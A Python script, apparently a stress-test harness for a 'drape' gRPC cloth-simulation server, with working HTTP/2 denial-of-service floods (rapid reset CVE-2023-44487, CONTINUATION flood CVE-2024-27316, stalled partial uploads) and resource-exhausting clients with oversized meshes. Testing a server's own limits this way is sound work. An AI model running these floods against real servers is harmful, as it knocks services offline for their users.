"""Clients that ask for too much, each until it is killed: greedy.py KIND HOST:PORT [TOKEN_FILE]."""

import os
import pathlib
import select
import socket
import struct
import sys
import threading
import time
import traceback

import numpy as np

import drape
import drape.mesh
from drape import ClothSpec, Collider, Environment, Grid, Pin

RINGS = 256  # 2 RINGS^2 triangles: as many as a server takes
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_HEADERS = 4
ACKNOWLEDGED = 1
INITIAL_WINDOW_SIZE = 4
LARGEST_PAYLOAD = 16384
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OPENED_AT_ONCE = 100
MESSAGE_BYTES = 60_000_000
UPLOADS = 8  # of a connection
# Of this machine, but not that of other clients: limits are per address.
OWN_ADDRESS = ("127.0.0.2", 0)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field without indexing and without Huffman codes (RFC 7541, 6.2.2); below 127 bytes each."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers():
    return b"".join(literal(*field) for field in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/drape.v1.SimulationService/Step"), (b":authority", b"drape"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc")])


def connected(address):
    host, port = address.split(":")
    connection = socket.create_connection((host, int(port)), timeout=5, source_address=OWN_ADDRESS)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def flood(address, frames_of):
    """Sends frames_of(first_stream) over and over; connects again whenever the server ends the connection."""
    while True:
        try:
            with connected(address) as connection:
                for stream in range(1, 2**31, 2 * OPENED_AT_ONCE):
                    connection.sendall(frames_of(stream))
        except OSError:
            time.sleep(0.01)


def rapid_reset(address):
    """Streams are opened and reset at once (CVE-2023-44487)."""
    headers, reset = request_headers(), struct.pack(">I", 8)
    flood(address, lambda first: b"".join(
        frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, reset)
        for stream in range(first, first + 2 * OPENED_AT_ONCE, 2)))


def messages_reset(address):
    """Streams are opened with an empty message and reset at once."""
    headers, reset = request_headers(), struct.pack(">I", 8)
    flood(address, lambda first: b"".join(
        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, bytes(5)) + frame(RST_STREAM, 0, stream, reset)
        for stream in range(first, first + 2 * OPENED_AT_ONCE, 2)))


def continuation(address):
    """Headers that never end (CVE-2024-27316)."""
    endless = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)
    flood(address, lambda first: (frame(HEADERS, 0, 1, request_headers()) if first == 1 else b"") + endless * 10)


def half_messages(address):
    """Many connections, each with the begin of a message of 60 MB."""
    connections = []
    while True:
        try:
            connection = connected(address)
            connections.append(connection)
            connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
            body = struct.pack(">BI", 0, MESSAGE_BYTES) + bytes(16000)
            for _ in range(4):  # as much as a window that is never renewed
                connection.sendall(frame(DATA, 0, 1, body[:16000]))
        except OSError:
            time.sleep(0.01)
        if len(connections) % 500 == 499:
            time.sleep(0.1)


def frames(connection):
    """Kind, flags, stream and payload of all that comes; None where nothing has come for a second."""
    received = b""
    while True:
        while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3], "big")):
            yield received[3], received[4], int.from_bytes(received[5:9], "big"), received[9:end]
            received = received[end:]
        if select.select([connection], [], [], 1)[0]:
            some = connection.recv(1 << 16)
            if not some:
                raise OSError("closed")
            received += some
        else:
            yield None


def upload(connection):
    """UPLOADS messages at once, as fast as the windows allow (RFC 9113, 5.2), all but their last bytes."""
    streams = range(1, 2 * UPLOADS, 2)
    initial, whole = 65535, 65535  # windows: of a new stream, of the connection
    window = dict.fromkeys(streams, initial)
    left = dict.fromkeys(streams, MESSAGE_BYTES)
    for stream in streams:
        connection.sendall(frame(HEADERS, END_HEADERS, stream, request_headers()))
        connection.sendall(frame(DATA, 0, stream, struct.pack(">BI", 0, MESSAGE_BYTES)))
        window[stream] -= 5
        whole -= 5
    for came in frames(connection):
        match came:
            case (kind, _, 0, payload) if kind == WINDOW_UPDATE:
                whole += int.from_bytes(payload, "big")
            case (kind, _, stream, payload) if kind == WINDOW_UPDATE and stream in window:
                window[stream] += int.from_bytes(payload, "big")
            case (kind, 0, _, payload) if kind == SETTINGS:
                for name, value in struct.iter_unpack(">HI", payload):
                    if name == INITIAL_WINDOW_SIZE:
                        window = {stream: size + value - initial for stream, size in window.items()}
                        initial = value
                connection.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
        for stream in streams:
            while (size := min(LARGEST_PAYLOAD, left[stream] - 1000, window[stream], whole)) > 0:
                connection.sendall(frame(DATA, 0, stream, bytes(size)))
                left[stream] -= size
                window[stream] -= size
                whole -= size


def uploads(address):
    """Messages of 60 MB whose last bytes never come, on four connections."""
    def again():
        while True:
            try:
                with connected(address) as connection:
                    upload(connection)
            except OSError:
                time.sleep(0.01)

    for _ in range(4):
        threading.Thread(target=again, daemon=True).start()
    time.sleep(1e9)


def ball(random):
    """A closed mesh of rings and two poles; another one each time, so that none is cached."""
    polar, around = np.linspace(0, np.pi, RINGS + 2)[1:-1, None], np.linspace(0, 2 * np.pi, RINGS, endpoint=False)
    radius = 1 + 0.1 * random.random() * np.sin(3 * around) * np.sin(polar)
    ring = np.stack([radius * np.sin(polar) * np.cos(around), radius * np.cos(polar), radius * np.sin(polar) * np.sin(around)], -1)
    vertices = np.concatenate([ring.reshape(-1, 3), [[0, 1, 0], [0, -1, 0]]]) - [0, 3, 0]
    index = np.arange(RINGS * RINGS).reshape(RINGS, RINGS)
    after = np.roll(index, -1, axis=1)
    north, south = RINGS * RINGS, RINGS * RINGS + 1
    a, b, c, d = index[:-1], after[:-1], index[1:], after[1:]
    cap = np.arange(RINGS)
    triangles = [np.stack(t, -1).reshape(-1, 3) for t in (
        (a, b, c), (b, d, c), (np.full(RINGS, north), after[0, cap], index[0, cap]), (np.full(RINGS, south), index[-1, cap], after[-1, cap]))]
    return drape.mesh.from_arrays(vertices.astype(np.float32), np.concatenate(triangles))


def builds(address, token):
    """Distance grids of the largest meshes: 16 callers, each one after the other. Ends if the server refuses them for another
    reason than a limit: nothing would be built."""
    def build(seed):
        session = drape.connect(address, token=token).session()
        random = np.random.default_rng(seed)
        while True:
            environment = Environment(colliders=[Collider(mesh=ball(random))])
            try:
                session.create(ClothSpec(grid=Grid(columns=4, rows=4, width_m=0.1, height_m=0.1), environment=environment))
            except drape.ResourceExhausted:
                time.sleep(0.1)
            except BaseException:
                traceback.print_exc()
                os._exit(1)

    for seed in range(16):
        threading.Thread(target=build, args=(seed,), daemon=True).start()
    time.sleep(1e9)


def meshes(address, token):
    """Cloths of nearly a million triangles, made, stepped once and deleted, one after the other. Ends if the server refuses them."""
    cells = 707
    row, column = np.divmod(np.arange(cells * cells), cells)
    corner = row * (cells + 1) + column
    below = corner + cells + 1
    triangles = np.concatenate([np.stack([corner, corner + 1, below], 1), np.stack([corner + 1, below + 1, below], 1)])
    x, y = np.meshgrid(*2 * [np.linspace(0, 1, cells + 1)])
    spec = ClothSpec(mesh=drape.mesh.from_arrays(np.stack([x, y, 0 * x], 2).reshape(-1, 3), triangles),
                     pins=[Pin(particle=0), Pin(particle=cells)])
    session = drape.connect(address, token=token).session()
    while True:
        cloth = session.create(spec)
        cloth.step(1)
        cloth.delete()


def busy(_address, _token=None):
    """Asks for nothing, but computes: what any neighbour on the same cores costs."""
    while True:
        pass


FLOODS = {flood.__name__: flood for flood in (rapid_reset, messages_reset, continuation, half_messages, uploads)}


def main():
    kind, address, *rest = sys.argv[1:]
    tenants = {tenant.__name__: tenant for tenant in (builds, meshes, busy)}
    if kind in tenants:
        tenants[kind](address, pathlib.Path(rest[0]).read_text() if rest else None)
    else:
        FLOODS[kind](address)


if __name__ == "__main__":
    main()
